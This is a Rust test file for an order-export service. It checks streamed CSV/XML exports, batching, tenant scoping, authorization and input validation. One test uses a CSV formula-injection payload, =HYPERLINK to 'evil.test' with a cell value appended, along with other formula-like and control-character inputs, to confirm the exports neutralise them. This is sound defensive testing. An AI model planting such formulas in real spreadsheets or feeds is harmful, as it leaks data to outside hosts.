//! CSV and XML exports: same filters and scoping as `orders`, streamed.

use futures::StreamExt;
use tests::{seed_orders, TestApp};

const ROWS: usize = 10_000;

/// Downloads an export as a client would, keeping only the first lines;
/// returns the lines seen (empty strings past the first two) and the chunks.
async fn download(http: &reqwest::Client, url: &str, token: &str) -> (Vec<String>, usize) {
    let response = http.get(url).bearer_auth(token).send().await.unwrap();
    assert_eq!(response.status(), 200);
    assert_eq!(response.headers()["content-type"], "text/csv; charset=utf-8");
    assert!(response.headers().get("content-length").is_none(), "the body is streamed, not buffered");
    let mut body = response.bytes_stream();
    let (mut chunks, mut lines, mut partial) = (0, Vec::new(), Vec::new());
    while let Some(chunk) = body.next().await {
        chunks += 1;
        for byte in chunk.unwrap().iter() {
            if *byte == b'\n' {
                let line = std::mem::take(&mut partial);
                lines.push(if lines.len() < 2 { String::from_utf8(line).unwrap() } else { String::new() });
            } else {
                partial.push(*byte);
            }
        }
    }
    (lines, chunks)
}

/// The export runs in a separate server process so its memory can be read
/// alone: after exporting 1,000 orders and then 10,000, its peak memory has not
/// grown with the tenfold export.
#[tokio::test]
async fn a_csv_export_of_ten_thousand_orders_streams_with_flat_memory() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let t = app.tenant(&admin, "acme").await;
    // One database connection: SQLite's page cache (2 MiB) is per connection, and
    // a varying number of warm connections would blur what is measured.
    let server = tests::process::RastroProcess::start_with(&app.database_url, &[("RASTRO_DB_MAX_CONNECTIONS", "1")]).await;
    let token = server.login(&format!("staff@{}.test", t.identifier), tests::PASSWORD, "acme").await;
    let url = format!("{}/exports/orders.csv", server.base());

    seed_orders(&app.db, &t.id, &t.destination, 1_000).await;
    let (lines, _) = download(&app.http, &url, &token).await;
    assert_eq!(lines.len(), 1 + 1_000);
    let (_, peak_after_small) = server.memory_kib();

    seed_orders(&app.db, &t.id, &t.destination, ROWS - 1_000).await;
    let (lines, chunks) = download(&app.http, &url, &token).await;
    assert_eq!(lines.len(), ROWS + 1, "a header and one row per order");
    assert!(lines[0].starts_with("id,source_id,code,status,customer_name"));
    assert!(lines[1].contains("\"Customer \"\"0\"\", Ltd.\""), "quotes and commas are escaped: {}", lines[1]);
    assert!(chunks > 10, "{chunks} chunks");
    let (_, peak_after_large) = server.memory_kib();
    let grown = peak_after_large.saturating_sub(peak_after_small);
    // Holding the 10k rows (each with ~1 KB of text) would take well over
    // 10 MiB; streaming leaves only caches that fill up to their bounds (SQLite's
    // page cache is 2 MiB per connection).
    assert!(grown < 6 * 1024, "peak memory grew by {grown} KiB from a 1k to a 10k export");
    server.stop().await;
}

#[tokio::test]
async fn a_large_export_reads_rows_in_bounded_batches() {
    // No mail worker: its polling would add statements to the count.
    let app = TestApp::spawn_with(|c| c.run_mail_worker = false).await;
    let admin = app.admin().await;
    let t = app.tenant(&admin, "acme").await;
    seed_orders(&app.db, &t.id, &t.destination, ROWS).await;
    let before = app.statements_run().await;
    let (lines, _) = download(&app.http, &format!("{}/exports/orders.csv", app.base), &t.staff).await;
    assert_eq!(lines.len(), ROWS + 1);
    // Two statements per batch (orders, items), plus authentication and the
    // query that finds no more rows.
    let batches = ROWS.div_ceil(domain::orders::EXPORT_BATCH as usize);
    let statements = app.statements_run().await - before;
    assert!(statements as usize <= 2 * batches + 3, "{statements} statements");
}

#[tokio::test]
async fn the_export_stream_reads_one_batch_at_a_time() {
    // No mail worker: its polling would add statements to the count.
    let app = TestApp::spawn_with(|c| c.run_mail_worker = false).await;
    let admin = app.admin().await;
    let t = app.tenant(&admin, "acme").await;
    seed_orders(&app.db, &t.id, &t.destination, 1_200).await;
    let system = domain::Actor::system("export test");
    let stream = domain::orders::export_batches(&app.ctx, &system, Default::default(), Default::default()).unwrap();
    futures::pin_mut!(stream);
    let start = app.statements_run().await;
    let first = stream.next().await.unwrap().unwrap();
    assert_eq!(first.len(), domain::orders::EXPORT_BATCH as usize);
    assert_eq!(app.statements_run().await - start, 2, "pulling one batch reads one batch, nothing ahead");
    let rest: Vec<_> = stream.collect().await;
    assert_eq!(rest.iter().map(|b| b.as_ref().unwrap().len()).sum::<usize>(), 700);
    assert_eq!(app.statements_run().await - start, 6, "three batches of two statements, the last one short");
}

#[tokio::test]
async fn exports_apply_filters_scoping_and_authorization() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let acme = app.tenant(&admin, "acme").await;
    let beta = app.tenant(&admin, "beta").await;
    seed_orders(&app.db, &acme.id, &acme.destination, 40).await;
    app.create_order(&beta.staff, "BETA-1", &beta.destination, Some("DELIVERED")).await;

    let get = |path: String, token: Option<String>| {
        let app = &app;
        async move {
            let mut request = app.http.get(format!("{}{path}", app.base));
            if let Some(token) = token {
                request = request.bearer_auth(token);
            }
            let response = request.send().await.unwrap();
            (response.status().as_u16(), response.text().await.unwrap())
        }
    };
    let (status, csv) = get("/exports/orders.csv?status=IN_TRANSIT,DELIVERED".into(), Some(acme.staff.clone())).await;
    assert_eq!(status, 200);
    assert_eq!(csv.lines().count(), 1 + 20, "{csv}");
    assert!(!csv.contains("BETA-1"), "another company's orders never appear");
    let (_, csv) = get("/exports/orders.csv?maxTotal=10.04".into(), Some(acme.staff.clone())).await;
    assert_eq!(csv.lines().count(), 1 + 5);

    let (status, xml) = get("/exports/orders.xml?code=S1".into(), Some(acme.staff.clone())).await;
    assert_eq!(status, 200);
    let mut reader = quick_xml::Reader::from_str(&xml);
    let (mut orders, mut items) = (0, 0);
    loop {
        match reader.read_event().unwrap() {
            quick_xml::events::Event::Start(e) if e.name().as_ref() == b"order" => orders += 1,
            quick_xml::events::Event::Start(e) if e.name().as_ref() == b"item" => items += 1,
            quick_xml::events::Event::Eof => break,
            _ => {}
        }
    }
    // S1, S10..S19: eleven orders, one item each; the XML is well formed.
    assert_eq!((orders, items), (11, 11), "{xml}");
    assert!(xml.contains("Seeded &lt;item&gt; &amp; co"));

    let (status, body) = get("/exports/orders.csv".into(), None).await;
    assert_eq!(status, 401, "{body}");
    let customer = app.customer(&acme.id, "acme", &acme.customer_email()).await;
    let (status, body) = get("/exports/orders.csv".into(), Some(customer)).await;
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("FORBIDDEN"));
    let (status, body) = get("/exports/orders.csv?status=LOST".into(), Some(acme.staff.clone())).await;
    assert_eq!(status, 400);
    assert!(body.contains("unknown status LOST"), "{body}");
    let (status, _) = get("/exports/orders.csv?nonsense=1".into(), Some(acme.staff.clone())).await;
    assert_eq!(status, 400);
    // A NUL in a search term is the client's error on both databases
    // (PostgreSQL refuses it in text: this was a 500 there), and so is a term
    // longer than any order could match.
    for query in ["code=S%001", "product=%00", "customerName=a%00b", &format!("code={}", "S".repeat(201))] {
        let (status, body) = get(format!("/exports/orders.xml?{query}"), Some(acme.staff.clone())).await;
        assert_eq!(status, 400, "{query}: {body}");
        assert!(body.contains("VALIDATION"), "{body}");
    }
}

/// Creates an order whose text fields are what an attacker (or a sloppy feed)
/// would put there; returns its id.
/// `[sourceId, code, customerName, item productId, item name]`.
async fn dirty_order(app: &TestApp, token: &str, destination: &str, [source_id, code, customer, sku, item]: [&str; 5]) -> String {
    let body = app
        .gql(
            Some(token),
            "mutation($i: CreateOrderInput!) { createOrder(input: $i) { id } }",
            serde_json::json!({ "i": {
                "sourceId": source_id, "code": code, "destinationLocalityId": destination, "customerName": customer,
                "items": [{ "sourceId": "1", "productId": sku, "name": item, "quantity": 1, "unitPrice": "10.00" }]
            } }),
        )
        .await;
    body["data"]["createOrder"]["id"].as_str().unwrap_or_else(|| panic!("createOrder failed: {body}")).to_owned()
}

/// Whether XML 1.0 allows `c` (its `Char` production).
fn xml_char(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}' | '\u{10000}'..='\u{10FFFF}')
}

/// Parses `xml` strictly and returns, per `<order id>`, its attributes and the
/// text of its child elements (items as `item:<attr>` and `item`). Panics on
/// anything not well-formed, including characters XML 1.0 forbids, raw or as
/// character references (quick-xml itself does not check those).
fn parse_orders(xml: &str) -> std::collections::HashMap<String, std::collections::HashMap<String, String>> {
    use quick_xml::events::Event;
    if let Some(bad) = xml.chars().find(|c| !xml_char(*c)) {
        panic!("the XML holds the forbidden character {bad:?}");
    }
    let mut reader = quick_xml::Reader::from_str(xml);
    let config = reader.config_mut();
    config.check_end_names = true;
    config.check_comments = true;
    config.allow_unmatched_ends = false;
    config.allow_dangling_amp = false;
    let (mut orders, mut open, mut text) = (std::collections::HashMap::new(), Vec::<String>::new(), String::new());
    let mut current: Option<(String, std::collections::HashMap<String, String>)> = None;
    loop {
        match reader.read_event().unwrap_or_else(|e| panic!("ill-formed XML at {}: {e}\n{xml}", reader.buffer_position())) {
            Event::Start(e) => {
                let name = String::from_utf8(e.name().as_ref().to_vec()).unwrap();
                let mut attributes = std::collections::HashMap::new();
                for attribute in e.attributes().with_checks(true) {
                    let attribute = attribute.unwrap_or_else(|e| panic!("bad attribute: {e}"));
                    let value = attribute.unescape_value().unwrap_or_else(|e| panic!("bad attribute value: {e}")).into_owned();
                    assert!(value.chars().all(xml_char), "attribute value {value:?}");
                    attributes.insert(String::from_utf8(attribute.key.as_ref().to_vec()).unwrap(), value);
                }
                if name == "order" {
                    current = Some((attributes["id"].clone(), attributes.clone()));
                } else if name == "item" {
                    if let Some((_, fields)) = current.as_mut() {
                        for (key, value) in attributes {
                            fields.insert(format!("item:{key}"), value);
                        }
                    }
                }
                open.push(name);
                text.clear();
            }
            Event::Text(t) => text.push_str(&t.xml_content().unwrap()),
            Event::GeneralRef(r) => {
                let resolved = match r.resolve_char_ref().unwrap() {
                    Some(c) => c.to_string(),
                    None => quick_xml::escape::resolve_predefined_entity(&r.decode().unwrap()).expect("a predefined entity").to_owned(),
                };
                assert!(resolved.chars().all(xml_char), "character reference to {resolved:?}");
                text.push_str(&resolved);
            }
            Event::End(_) => {
                let name = open.pop().expect("balanced");
                if name == "order" {
                    let (id, fields) = current.take().expect("inside an order");
                    orders.insert(id, fields);
                } else if let Some((_, fields)) = current.as_mut() {
                    fields.entry(name).or_insert_with(|| std::mem::take(&mut text));
                }
                text.clear();
            }
            Event::Eof => break,
            _ => {}
        }
    }
    assert!(open.is_empty(), "unclosed elements {open:?}");
    orders
}

/// Formula-looking cells are neutralised in CSV, and control characters never
/// reach the XML raw: a dirty order neither runs in a spreadsheet nor breaks
/// the company's XML export.
#[tokio::test]
async fn exports_neutralise_formulas_and_keep_xml_well_formed() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let t = app.tenant(&admin, "acme").await;
    let hyperlink = "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click\")";
    let first = dirty_order(&app, &t.staff, &t.destination, ["DIRTY-1", hyperlink, "+1 555 0100", "-2", "a\u{1}b\u{B}c"]).await;
    let second = dirty_order(&app, &t.staff, &t.destination, ["@x", "#2", "\u{1F}unit separator", "@SUM(A1)", "fine item"]).await;
    let third = dirty_order(&app, &t.staff, &t.destination, ["DIRTY-3", "#3", "placeholder", "SKU-3", "<b>&</b>"]).await;
    // The API trims its input, so a cell cannot start with a tab or a CR that
    // way; data from older versions or other writers can, so it is put there
    // directly.
    {
        use entities::order;
        use sea_orm::{sea_query::Expr, ColumnTrait, EntityTrait, QueryFilter};
        order::Entity::update_many()
            .col_expr(order::Column::CustomerName, Expr::value("\tfoo"))
            .col_expr(order::Column::InvoiceNumber, Expr::value("\rbar"))
            .filter(order::Column::Id.eq(third.parse::<i32>().unwrap()))
            .exec(&app.db)
            .await
            .unwrap();
    }

    let download = |path: &'static str| {
        let app = &app;
        let token = t.staff.clone();
        async move {
            let response = app.http.get(format!("{}{path}", app.base)).bearer_auth(token).send().await.unwrap();
            assert_eq!(response.status(), 200);
            response.text().await.unwrap()
        }
    };

    let csv = download("/exports/orders.csv").await;
    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(csv.as_bytes());
    let header = reader.headers().unwrap().clone();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: std::collections::HashMap<String, csv::StringRecord> =
        reader.records().map(|r| r.unwrap()).map(|r| (r[column("id")].to_owned(), r)).collect();
    assert_eq!(rows.len(), 3, "{csv}");
    let cell = |id: &str, name: &str| rows[id][column(name)].to_owned();
    assert_eq!(cell(&first, "code"), format!("'{hyperlink}"));
    assert_eq!(cell(&first, "customer_name"), "'+1 555 0100");
    assert_eq!(cell(&first, "skus"), "'-2");
    assert_eq!(cell(&first, "source_id"), "DIRTY-1", "harmless text is left alone");
    assert_eq!(cell(&second, "source_id"), "'@x");
    assert_eq!(cell(&second, "skus"), "'@SUM(A1)");
    assert_eq!(cell(&second, "code"), "#2");
    assert_eq!(cell(&third, "customer_name"), "'\tfoo");
    assert_eq!(cell(&third, "invoice_number"), "'\rbar");
    // Numbers the export formats itself stay numbers.
    assert_eq!(cell(&first, "total"), "10.00");

    let xml = download("/exports/orders.xml").await;
    let orders = parse_orders(&xml);
    assert_eq!(orders.len(), 3, "{xml}");
    assert_eq!(orders[&first]["code"], hyperlink, "XML needs no formula quoting, only escaping");
    assert_eq!(orders[&first]["item"], "a\u{FFFD}b\u{FFFD}c", "forbidden controls become U+FFFD in text");
    assert_eq!(orders[&second]["customerName"], "\u{FFFD}unit separator");
    assert_eq!(orders[&second]["sourceId"], "@x");
    assert_eq!(orders[&third]["item"], "<b>&</b>");
    assert_eq!(orders[&third]["customerName"], "\tfoo", "tab survives as a character reference");
    assert_eq!(orders[&third]["invoiceNumber"], "\rbar", "so does CR");
}

/// A forbidden character in an attribute value is replaced too.
#[tokio::test]
async fn xml_attributes_never_carry_forbidden_characters() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let t = app.tenant(&admin, "acme").await;
    let id = dirty_order(&app, &t.staff, &t.destination, ["SRC\u{1}\u{1F}", "code\u{B}x", "Ana", "SKU\u{2}", "Chair"]).await;
    let response = app.http.get(format!("{}/exports/orders.xml", app.base)).bearer_auth(&t.staff).send().await.unwrap();
    let xml = response.text().await.unwrap();
    let orders = parse_orders(&xml);
    assert_eq!(orders[&id]["sourceId"], "SRC\u{FFFD}\u{FFFD}");
    assert_eq!(orders[&id]["code"], "code\u{FFFD}x");
    assert_eq!(orders[&id]["item:productId"], "SKU\u{FFFD}");
}
